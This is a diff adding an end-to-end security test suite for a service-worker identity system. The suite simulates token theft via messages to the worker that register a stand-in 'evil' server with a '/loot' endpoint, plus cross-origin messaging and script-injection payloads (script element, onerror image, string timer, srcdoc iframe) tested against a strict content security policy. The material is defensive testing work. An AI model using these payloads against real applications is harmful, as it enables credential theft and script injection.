@@ -1,0 +1,188 @@
+/** Who may say what is signed, and which scripts may run beside it. */
+import { readFileSync } from 'node:fs';
+import { expect, query, registered, signedIn, test, type TestApp } from './attack.js';
+import { anyOrigin } from './liar.js';
+
+test('S6: a page’s message makes another server the portal’s own', async ({ app, naive, liar, portal }) => {
+  const evil = await liar({
+    answer: (_, response) => {
+      response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
+      return true;
+    },
+  });
+  const attack = async (target: TestApp): Promise<void> => {
+    await target.run(async (origin) => {
+      const worker = navigator.serviceWorker.controller;
+      for (const message of [
+        { configuration: { resources: [origin] } },
+        { type: 'identity:configure', version: 1, portals: [{ url: origin }], resources: [origin] },
+        { type: 'identity:register', version: 1, portal: origin },
+        { type: 'CACHE_URLS', payload: { urlsToCache: [`${origin}/cached`] } },
+      ])
+        worker?.postMessage(message);
+      // Answered after the messages before it.
+      const { port1, port2 } = new MessageChannel();
+      worker?.postMessage({ type: 'identity:connect', version: 1 }, [port2]);
+      worker?.postMessage('marker', [new MessageChannel().port2]);
+      port1.close();
+      await fetch('/signed-in.html');
+    }, evil.origin);
+    await target.fetch(`${evil.origin}/loot?f=json`);
+    await target.loadImage(`${evil.origin}/rest/services/x/MapServer/tile/0/0/0`);
+  };
+  await attack(await naive({ does: 'configurable' }));
+  expect(evil.secrets(), 'control').not.toEqual([]);
+  const before = evil.heard.length;
+  await signedIn(app);
+  await attack(app);
+  const since = evil.heard
+    .slice(before)
+    .map(({ url, headers, body }) => `${url.href} ${JSON.stringify(headers)} ${body}`);
+  expect(since.length).toBeGreaterThan(0);
+  expect(portal.log.leaks(since.join('\n'))).toEqual([]);
+});
+
+test('S6: a registration that owns more does not get the old tokens', async ({ variant, liar, portal }) => {
+  const evil = await liar({
+    answer: (_, response) => {
+      response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
+      return true;
+    },
+  });
+  // The app's server has the same worker with another registration from some moment on.
+  const worker = readFileSync('dist/e2e/worker.js', 'utf8');
+  const wider = registered({ resources: [portal.hostedUrl, evil.origin] }).make(portal);
+  const body = worker.replace('__IDENTITY_CONFIG__', () =>
+    JSON.stringify(JSON.stringify(wider)).slice(1, -1),
+  );
+  let isChanged = false;
+  const ours = await signedIn(
+    await variant({
+      intercept: (path) =>
+        isChanged && path === '/worker.js'
+          ? { headers: { 'content-type': 'text/javascript' }, body }
+          : undefined,
+    }),
+  );
+  isChanged = true;
+  await ours.run(async () => {
+    for (const registration of await navigator.serviceWorker.getRegistrations())
+      await registration.unregister();
+  });
+  await ours.open();
+  await ours.takeOver();
+  await ours.fetch(`${evil.origin}/loot?f=json`);
+  expect(await ours.run(() => window.identity.credentials)).toEqual([]);
+  expect(evil.secrets()).toEqual([]);
+  // Control: with a sign-in of its own the new registration does own that server.
+  portal.control.endSessions();
+  await ours.page.reload();
+  await ours.ready();
+  await ours.signIn('ana');
+  await ours.fetch(`${evil.origin}/loot?f=json`);
+  expect(evil.secrets()).not.toEqual([]);
+});
+
+const policy = [
+  "default-src 'none'",
+  "script-src 'self'",
+  "worker-src 'self'",
+  'connect-src *',
+  'img-src * data:',
+  "require-trusted-types-for 'script'",
+  'trusted-types identity-worker',
+].join('; ');
+
+/** Injects script as a hole in an app would let an attacker. @returns What ran. */
+const inject = (target: TestApp): Promise<string> =>
+  target.run(async () => {
+    const ran: string[] = [];
+    Object.assign(window, { ran: (how: string) => ran.push(how) });
+    const attempts: (() => unknown)[] = [
+      () => {
+        const script = document.createElement('script');
+        script.textContent = 'ran("element")';
+        document.body.append(script);
+      },
+      () => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="ran(\'handler\')">'),
+      // oxlint-disable-next-line no-implied-eval -- the attack
+      () => setTimeout('ran("timer")'),
+      () => {
+        const frame = document.createElement('iframe');
+        frame.srcdoc = '<script>parent.ran("frame")</script>';
+        document.body.append(frame);
+      },
+    ];
+    for (const attempt of attempts) {
+      try {
+        attempt();
+      } catch {
+        // The policy said no.
+      }
+    }
+    for (let frame = 0; frame < 30; frame += 1) await new Promise(requestAnimationFrame);
+    return ran.sort().join();
+  });
+
+test('S12: script is injected: not under the strictest policy, which everything of ours works with', async ({
+  app,
+  variant,
+}) => {
+  await app.open();
+  expect(await inject(app), 'control').toBe('element,frame,handler,timer');
+  const ours = await signedIn(
+    await variant({
+      options: { redirect: 'worker', persistence: 'sealed' },
+      isSealed: true,
+      headers: { 'content-security-policy': policy },
+    }),
+  );
+  expect(await inject(ours)).toBe('');
+  expect(await ours.fetchJson(ours.hosted(query))).toEqual({ count: expect.any(Number) });
+});
+
+test('S8: a page of another origin, with a hold on the app’s window, speaks to its worker', async ({
+  app,
+  naive,
+  portal,
+}) => {
+  /** Opens the app from a foreign page and says to its window whatever a page could say to the worker. */
+  const attack = async (target: TestApp): Promise<string> => {
+    const foreign = await target.page.context().newPage();
+    await foreign.goto(`${portal.foreign.origin}/`);
+    return foreign.evaluate(async (url) => {
+      const heard: string[] = [];
+      addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
+      const frame = document.createElement('iframe');
+      frame.src = url;
+      document.body.append(frame);
+      await new Promise((resolve) => frame.addEventListener('load', resolve));
+      for (const message of [
+        'token',
+        { type: 'identity:connect', version: 1 },
+        { type: 'identity:claim', version: 1 },
+      ]) {
+        const { port1, port2 } = new MessageChannel();
+        port1.addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
+        port1.start();
+        frame.contentWindow?.postMessage(message, '*', [port2]);
+      }
+      for (let turn = 0; turn < 60; turn += 1) await new Promise(requestAnimationFrame);
+      return heard.join('\n');
+    }, `${target.url}/`);
+  };
+  await signedIn(app);
+  expect(portal.log.leaks(await attack(app))).toEqual([]);
+  // Control: the same words, said by a page of the app itself, are heard by a worker that tells.
+  const credulous = await naive({ does: 'tells' });
+  const told = await credulous.run(
+    () =>
+      new Promise<string>((resolve) => {
+        const { port1, port2 } = new MessageChannel();
+        port1.addEventListener('message', ({ data }) => resolve(String(data)));
+        port1.start();
+        navigator.serviceWorker.controller?.postMessage('token', [port2]);
+      }),
+  );
+  expect(portal.log.leaks(told)).not.toEqual([]);
+});
